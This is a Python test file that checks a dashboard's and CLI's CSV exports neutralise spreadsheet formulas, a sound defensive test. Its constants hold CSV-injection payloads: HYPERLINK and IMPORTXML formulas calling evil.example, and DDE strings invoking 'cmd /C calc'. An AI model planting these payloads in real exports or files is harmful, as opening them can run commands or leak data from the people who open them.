"""Every export goes through one CSV writer, and none hands a spreadsheet a formula: a hostile
name, story, department and objective reach the dashboard's CSV files and the CLI's report as
text, never as ``=...``. (The CLI's comments and objectives CSV: tests/handlers/roadmap/test_export.py.)"""

from __future__ import annotations

import ast
import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from sqlmodel import select

from storage.models import Person
from storage.roadmap import Objective
from storage.stories import Story
from tests.handlers.cascade.helpers import ROWS
from tests.handlers.dashboard.conftest import ADMIN, sign_in
from tests.handlers.dashboard.test_pulse_views import published  # noqa: F401 (a fixture)
from tests.support import import_org, org_csv

ROOT = Path(__file__).resolve().parents[3]
NAME = '=HYPERLINK("http://evil.example","Mia")'
STORY = "@SUM(1+1)*cmd|' /C calc'!A0"
CUSTOMER = "+1+2"
CHANGED = "-2+3"
OBJECTIVE = '\t=IMPORTXML("http://evil.example","//a")'
DEPARTMENT = "-1+cmd|' /C calc'!A0"
VIEWS = (("overview", "?scope=org"), ("groups", ""), ("stories", ""), ("cascades", ""))
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_every_csv_export_uses_the_one_writer() -> None:
    """A second ``csv.writer`` would be a second place to forget the neutralising."""
    writers = []
    for folder in ("bot", "handlers", "storage"):
        for path in (ROOT / folder).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if (
                    isinstance(node, ast.Attribute)
                    and node.attr in ("writer", "DictWriter")
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                ):
                    writers.append(str(path.relative_to(ROOT)))
    assert writers == ["handlers/common/formatting.py"]


@pytest.mark.usefixtures("published")
async def test_hostile_text_reaches_every_dashboard_csv_as_text(client, seeded) -> None:  # type: ignore[no-untyped-def]
    line = io.StringIO()
    cells = ROWS["m1"].split(",")
    csv.writer(line, lineterminator="").writerow([cells[0], NAME, *cells[2:]])
    import_org(seeded, org_csv(*{**ROWS, "m1": line.getvalue()}.values(), ADMIN))
    with seeded.db.session() as session:
        people = {p.email.split("@")[0]: p for p in session.exec(select(Person))}
        assert people["m1"].name == NAME
        story = session.exec(select(Story).where(Story.consent == "named")).first()
        assert story is not None
        story.what_happened, story.customer, story.what_changed = STORY, CUSTOMER, CHANGED
        session.add(story)
        ceo = people["ceo"]
        session.add(
            Objective(
                scope_id=ceo.id,  # type: ignore[arg-type]
                created_by_id=ceo.id,  # type: ignore[arg-type]
                owner_id=ceo.id,  # type: ignore[arg-type]
                title=OBJECTIVE,
                dimension="customer_measures",
                start=3.1,
                target=3.8,
                due=date(2027, 6, 30),
                created_at=seeded.clock.now(),
            )
        )
    await sign_in(client, seeded, "vp")  # sent the cascade: sees the whole chain and stories
    seen: dict[str, str] = {}
    for view, query in VIEWS:
        shown = json.loads(await (await client.get(f"/dashboard/export/{view}.json{query}")).text())
        for section in shown["sections"]:
            response = await client.get(f"/dashboard/export/{view}/{section}.csv{query}")
            assert response.status == 200, (view, section)
            for line in csv.reader(io.StringIO(await response.text())):
                for cell in line:
                    assert not cell.startswith(FORMULA_STARTS) or _number(cell), (view, cell)
                    seen[cell] = f"{view}/{section}"
    # the hostile texts are there, each as text (a leading apostrophe), not dropped
    for text in (NAME, STORY, CUSTOMER, CHANGED, OBJECTIVE):
        assert "'" + text in seen, text


@pytest.mark.usefixtures("published")
def test_hostile_group_names_reach_the_cli_report_as_text(seeded, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from typer.testing import CliRunner

    from bot.cli.main import app
    from storage.disclosure_models import DisclosureCell

    with seeded.db.session() as session:  # a department the org file named so
        for cell in session.exec(select(DisclosureCell).where(DisclosureCell.key == "Sales")):
            cell.label = DEPARTMENT
            session.add(cell)
    monkeypatch.setenv("CULTUREBOT_DATABASE_URL", seeded.db.url)
    for args in (["report", "--format", "csv"], ["report", "--format", "csv", "--series"]):
        done = CliRunner().invoke(app, args)
        assert done.exit_code == 0, done.output
        cells = [cell for line in csv.reader(io.StringIO(done.output)) for cell in line]
        assert "'" + DEPARTMENT in cells, args
        assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)], args
